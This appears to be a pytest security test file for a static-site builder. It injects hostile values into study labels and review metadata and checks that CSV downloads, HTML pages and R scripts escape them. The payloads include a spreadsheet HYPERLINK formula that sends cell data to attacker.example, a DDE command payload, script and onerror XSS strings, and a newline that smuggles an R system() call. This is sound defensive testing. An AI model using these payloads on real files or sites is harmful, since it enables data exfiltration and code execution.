"""Hostile input (issue 15), points 1 and 2 by kind of field, on one shared build: formulas in CSV downloads,
HTML and attribute lists in the source review's citation and in labels, line breaks in titles that end the
comment of an R script. (test_escaping.py puts one payload into every free-text field at once.)"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import copy_project
from support import edit, study, yaml_string

FORMULAS = {
    "shu-2020": '=HYPERLINK("https://attacker.example/?"&A1)',
    "lanzoni-2021": "+1+cmd|' /C calc'!A0",
    "meng-2020": "-2+3",
    "leng-2020": "@SUM(A1:A9)",
}
MARK = "zq9"


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    from builder.publish.build import build

    project = copy_project(tmp_path_factory.mktemp("injection") / "project")
    for sid, label in FORMULAS.items():
        path = study(project, sid)
        old = re.search(r"(?m)^label: .*$", path.read_text(encoding="utf-8")).group(0)
        edit(path, old, "label: " + yaml_string(label))
    review = project / "data/review.yaml"
    edit(review, 'volume: "10"', "volume: " + yaml_string(f"10<script>window.{MARK}=1</script>"))
    edit(review, 'issue: "27"', "issue: " + yaml_string(f'27"><img src=x onerror=window.{MARK}=2>'))
    edit(review, "pages: 9714-9726", "pages: " + yaml_string(f"9714 {{: onclick=window.{MARK}=3 }}"))
    edit(
        review,
        "title: Overall survival, current methods, published values",
        "title: " + yaml_string(f"Overall survival\nsystem('touch {MARK}')\n# {MARK} {{: onclick=x }}"),
    )
    edit(
        study(project, "shi-2021"),
        "label: Shi 2021",
        "label: " + yaml_string(f"Shi 2021 {{: onmouseover=window.{MARK}=4 }}"),
    )
    build(project)
    return project / "site"


class _Handlers(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data):
        if self.in_script and MARK in data:
            self.found.append("a script element from the data")


def _handlers(page: Path) -> list[str]:
    parser = _Handlers()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser.found


class TestCsvFormulaInjection:
    """A label a spreadsheet would read as a formula is written with a leading apostrophe in every CSV
    download; numbers, negative ones included, stay numbers."""

    def test_results_csv(self, site):
        rows = list(csv.DictReader(io.StringIO((site / "results.csv").read_text(encoding="utf-8"))))
        labels = {r["label"] for r in rows if r["row_type"] == "study"}
        for label in FORMULAS.values():
            assert "'" + label in labels and label not in labels
        for row in rows:
            for key, value in row.items():
                assert not (value or "").startswith(("=", "+", "@")), (key, value)
                if (value or "").startswith("-"):
                    float(value)  # a negative number, not text

    def test_each_analysis_download(self, site):
        files = sorted((site / "downloads").glob("*.csv"))
        assert files
        seen = set()
        for path in files:
            for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))):
                assert not row["label"].startswith(("=", "+", "-", "@")), (path.name, row["label"])
                seen.add(row["label"])
        assert {"'" + FORMULAS["shu-2020"], "'" + FORMULAS["meng-2020"]} <= seen


class TestSourceReviewCitationIsEscaped:
    """source_review.volume, issue and pages were printed raw on the home page."""

    def test_home_page(self, site):
        page = site / "index.html"
        text = page.read_text(encoding="utf-8")
        assert MARK in text and _handlers(page) == []
        assert "<script>window" not in text and "<img src=x" not in text


class TestAttributeListsInLabels:
    def test_no_handler_on_any_page(self, site):
        pages = [p for p in site.rglob("*.html") if not p.relative_to(site).as_posix().startswith("v1.")]
        assert len(pages) > 20
        assert [(p.name, h) for p in pages for h in _handlers(p)] == []
        assert "onmouseover" in (site / "studies/shi-2021.html").read_text(encoding="utf-8")  # shown as text


class TestLineBreaksInTitlesOfRScripts:
    """A line break in an analysis title ended the comment on line 1 of its R script: the next line ran."""

    def test_the_title_stays_in_the_comment(self, site):
        script = (site / "downloads/survival-primary.R").read_text(encoding="utf-8")
        assert MARK in script
        for line in script.splitlines():
            if MARK in line:
                assert line.lstrip().startswith("#") or re.search(r"[\"'].*" + MARK, line), line
        assert not re.search(r"(?m)^\s*system\(", script)
